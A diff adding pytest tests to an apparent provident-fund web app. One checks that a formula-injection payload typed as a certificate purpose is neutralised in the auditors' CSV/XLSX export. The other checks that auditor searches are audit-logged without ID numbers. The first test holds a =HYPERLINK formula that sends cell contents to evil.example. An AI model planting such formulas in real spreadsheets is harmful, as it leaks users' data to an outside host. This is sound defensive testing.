@@ -176,3 +176,54 @@ def test_the_depositor_sees_who_looked(owner, other, clerk, reads):
 
     with pytest.raises(NotFound):
         account_readers(me, other.pk)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_in_a_certificate_purpose_is_inert_in_the_export(auditor, owner, fmt):
+    """Formula injection (issue 11, item 12): a depositor types ``=HYPERLINK(...)`` as the
+    purpose of a certificate; in the auditors' export it is text, not a live formula."""
+    from hpf.certificates.services import certificate_issue
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    certificate_issue(
+        Actor(f"depositor:{owner.depositor_id}", "web"),
+        account_id=owner.pk,
+        kind="DEPOSIT",
+        purpose=evil,
+        hall="网上业务大厅",
+    )
+    http = verified_client(auditor)
+    response = http.post(f"{reverse('auditor:export', kwargs={'fmt': fmt})}")
+    assert response.status_code == 200
+    if fmt == "csv":
+        import csv as csv_module
+
+        rows = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        cells: list[object] = [c for row in rows for c in row]
+    else:
+        book = load_workbook(io.BytesIO(response.content))
+        sheet = book.active
+        assert sheet is not None
+        cells = [c.value for row in sheet.iter_rows() for c in row]
+        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert "'" + evil in cells
+    assert not any(isinstance(c, str) and c.startswith(("=", "+", "@")) for c in cells)
+
+
+def test_the_auditors_own_searches_and_reports_are_on_the_trail(auditor, clerk, person, reads):
+    """Issue 11, item 14: an auditor's search (even by ID number) and the patterns report leave
+    audit events naming the auditor and the filters, never the ID number."""
+    http = verified_client(auditor)
+    before = AuditEvent.objects.count()
+    response = http.post(
+        f"{reverse('auditor:search')}?staff={clerk.staff_no}",
+        {"id_number": person(1)["id_number"]},
+    )
+    assert response.status_code == 200
+    search = AuditEvent.objects.get(action="audit.search")
+    assert search.actor == f"staff:{auditor.user_id}"
+    assert search.details["staff"] == clerk.staff_no and search.details["depositor"] == "yes"
+    assert person(1)["id_number"] not in str(search.details)
+    assert http.get(reverse("auditor:patterns")).status_code == 200
+    assert AuditEvent.objects.filter(action="audit.patterns", actor=search.actor).exists()
+    assert AuditEvent.objects.count() == before + 2
